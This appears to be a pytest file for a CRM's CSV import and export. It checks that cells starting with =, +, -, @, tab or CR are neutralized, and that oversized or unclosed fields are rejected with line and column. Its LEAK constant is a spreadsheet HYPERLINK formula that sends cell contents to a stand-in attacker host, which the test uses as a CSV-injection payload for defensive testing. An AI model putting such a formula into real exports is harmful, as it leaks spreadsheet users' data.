"""CSV cells a spreadsheet would run (=, +, -, @, tab, CR first) and fields too large to read:
through the services, the HTTP import and export, and `crm import` / `crm export`."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select
from typer.testing import CliRunner

from store.import_formats import FORMULA_START, cell_value, neutralize
from store.models import Contact, User
from tests import factories as f
from tests.test_import_export import CsvFile

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2, "Click me")'
PHONE = "+351912345678"  # E.164: what the CRM stores for "+351 912 345 678"
BIG = 130 * 1024  # over the csv module's 128 KiB field limit


@pytest.mark.parametrize(("raw", "value"), [
    ("'=1+1", "=1+1"), ("'+351 912", "+351 912"), ("'-5", "-5"), ("'@SUM(A1)", "@SUM(A1)"),
    ("''=1+1", "'=1+1"),  # exactly one ' comes off
    ("'hello", "'hello"), ("O'Brien", "O'Brien"), ("'", "'"),  # a ' before anything else stays
    ("\t=1+1", "\t=1+1"), ("  =1+1 ", "  =1+1"), ("\r\n+1", "\r\n+1"),  # trimming never exposes a formula
    ("  Ines ", "Ines"), ("\tIness", "Iness"), ("  '=1", "=1"),
])
def test_a_cell_is_read_without_ever_exposing_a_formula(raw: str, value: str) -> None:
    assert cell_value(raw) == value


@pytest.mark.parametrize("value", ["=1+1", "+351912345678", "-5", "@x", "\t=1", "\r=1", "'=1", "''+1", "plain",
                                   "O'Brien", "'quoted", ""])
def test_what_export_writes_import_reads_back_and_a_spreadsheet_shows_as_text(value: str) -> None:
    written = neutralize(value)
    assert not written.startswith(FORMULA_START)
    assert cell_value(written) == value


def inert(text: str) -> list[dict[str, str]]:
    """The CSV's rows, after checking that no cell would run in a spreadsheet."""
    rows = list(csv.reader(io.StringIO(text)))
    live = [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    assert live == [], live
    header, *data = rows
    return [dict(zip(header, row, strict=True)) for row in data]


def the_contact(session, ws) -> Contact:  # type: ignore[no-untyped-def]
    return session.scalar(select(Contact).where(Contact.workspace_id == ws.id, Contact.last_name == "-Minus"))


def fields(contact: Contact) -> tuple[str | None, ...]:
    return (contact.first_name, contact.last_name, contact.phone, contact.title, contact.email)


def test_http_export_then_import_gives_the_same_contact_and_every_cell_is_inert(session, http) -> None:
    w = f.world(session)
    made = f.create(session, w.admin, "contact", first_name=LEAK, last_name="-Minus", phone="+351 912 345 678",
                    title="@admin", email="leak@evil.example")
    assert made.phone == PHONE
    session.add(User(workspace_id=w.other_ws.id, email=w.admin.email, name=w.admin.name, role=w.admin.role))
    session.commit()

    exported = f.api(session, http, w.admin).get("/exports/contacts.csv")
    assert exported.status_code == 200
    row = inert(exported.text)[0]
    assert (row["first_name"], row["last_name"], row["phone"], row["title"]) == (
        "'" + LEAK, "'-Minus", "'" + PHONE, "'@admin")

    other = f.api(session, http, w.other_admin)
    report = other.post("/imports/contacts", files={"file": ("contacts.csv", exported.content, "text/csv")})
    assert report.status_code == 200 and report.json()["created"] == 1 and report.json()["errors"] == []
    back = the_contact(session, w.other_ws)
    assert fields(back) == fields(made) == (LEAK, "-Minus", PHONE, "@admin", "leak@evil.example")
    assert other.get("/exports/contacts.csv").text == exported.text


def test_a_tab_before_a_formula_is_not_taken_off_into_a_live_formula(session, http) -> None:
    w = f.world(session)
    admin = f.api(session, http, w.admin)
    upload = CsvFile("first_name", "last_name", "title", "email")
    upload.row("\t=1+1", "-Minus", "'=2+2", "tab@x.example")
    report = admin.post("/imports/contacts", files={"file": ("c.csv", upload.data(), "text/csv")})
    assert report.status_code == 200 and report.json()["created"] == 1, report.text
    row = inert(admin.get("/exports/contacts.csv").text)[0]
    assert row["title"] == "'=2+2" and row["first_name"].startswith("'")


def test_a_field_over_128_kib_is_a_422_naming_line_and_column_and_nothing_is_imported(session, http) -> None:
    w = f.world(session)
    admin = f.api(session, http, w.admin)
    upload = CsvFile("First Name", "Last Name", "Email", "Notes")
    upload.row("Ines", "Duarte", "ines@borealis.example", "fine")
    upload.row("Marco", "Rossi", "marco@borealis.example", "x" * BIG, mark="big")
    before = session.scalar(select(func.count()).select_from(Contact))
    for dry_run in ("true", "false"):
        got = admin.post("/imports/contacts", params={"dry_run": dry_run},
                         files={"file": ("c.csv", upload.data(), "text/csv")})
        assert got.status_code == 422, got.text
        body = got.json()
        assert f"line {upload.lines['big']}, column 'Notes'" in body["message"] and "128 KiB" in body["message"]
        assert (body["line"], body["column"]) == (upload.lines["big"], "Notes")
    assert session.scalar(select(func.count()).select_from(Contact)) == before  # Ines was not kept either

    # A quote that is never closed swallows the rest of the file into one field: the same answer.
    unclosed = ('first_name,last_name,email\nAna,Silva,ana@x.example\nBob,"Builder,bob@x.example\n'
                + "more,rows,here@x.example\n" * 6000).encode()
    got = admin.post("/imports/contacts", files={"file": ("c.csv", unclosed, "text/csv")})
    assert got.status_code == 422 and "line 3, column 'last_name'" in got.json()["message"]
    assert "never closed" in got.json()["message"]


runner = CliRunner()


def crm(*args: str, code: int = 0) -> str:
    from crm import app

    result = runner.invoke(app, list(args))
    assert result.exit_code == code, result.output + repr(result.exception)
    assert "Traceback" not in result.output
    return result.output


def test_cli_export_then_import_into_another_workspace_round_trips_inert(cli_env, tmp_path) -> None:
    from store.db import unit_of_work
    from store.models.enums import Surface
    from store.services.org import admin_actor, create_workspace, get_workspace
    from store.settings import get_settings

    crm("setup", "--no-demo")
    crm("user", "add", "sam@acme.example", "--name", "Sam", "--role", "admin")
    with unit_of_work() as session:
        ws = get_workspace(session, slug=get_settings().default_workspace)
        f.create(session, admin_actor(session, ws, Surface.cli), "contact", first_name=LEAK, last_name="-Minus",
                 phone="+351 912 345 678", title="@admin", email="leak@evil.example")
        create_workspace(session, name="Other", slug="other")
    crm("user", "add", "sam@acme.example", "--name", "Sam", "--role", "admin", "--workspace", "other")

    path = tmp_path / "contacts.csv"
    crm("export", "contacts", "--out", str(path))
    exported = path.read_text(encoding="utf-8")
    row = inert(exported)[0]
    assert (row["first_name"], row["phone"]) == ("'" + LEAK, "'" + PHONE)
    assert "1 contacts created" in crm("import", "contacts", str(path), "--workspace", "other")
    with unit_of_work() as session:
        mine = the_contact(session, get_workspace(session, slug=get_settings().default_workspace))
        theirs = the_contact(session, get_workspace(session, slug="other"))
        assert fields(theirs) == fields(mine) == (LEAK, "-Minus", PHONE, "@admin", "leak@evil.example")
    again = tmp_path / "again.csv"
    crm("export", "contacts", "--workspace", "other", "--out", str(again))
    assert again.read_text(encoding="utf-8") == exported


def test_cli_import_of_a_field_over_128_kib_says_line_and_column_and_imports_nothing(cli_env, tmp_path) -> None:
    crm("setup", "--no-demo")
    crm("user", "add", "sam@acme.example", "--name", "Sam", "--role", "admin")
    path = tmp_path / "big.csv"
    upload = CsvFile("First Name", "Last Name", "Email", "Notes")
    upload.row("Ines", "Duarte", "ines@borealis.example", "fine")
    upload.row("Marco", "Rossi", "marco@borealis.example", "x" * BIG, mark="big")
    path.write_bytes(upload.data())
    out = crm("import", "contacts", str(path), code=1)
    assert f"line {upload.lines['big']}, column 'Notes'" in " ".join(out.split())
    assert "ines@borealis.example" not in crm("export", "contacts")
